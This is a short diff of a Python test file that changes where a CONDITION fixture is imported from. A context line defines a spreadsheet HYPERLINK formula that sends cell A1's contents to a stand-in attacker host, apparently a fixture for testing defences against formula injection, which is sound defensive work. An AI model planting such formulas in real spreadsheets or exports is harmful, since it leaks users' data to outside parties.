@@ -12,7 +12,7 @@ from sandbox.services import committee
 
 from ..conftest import login
 from ..factories import OrganisationFactory, UserFactory
-from .conftest import CONDITION
+from ..factories_flow import CONDITION
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 
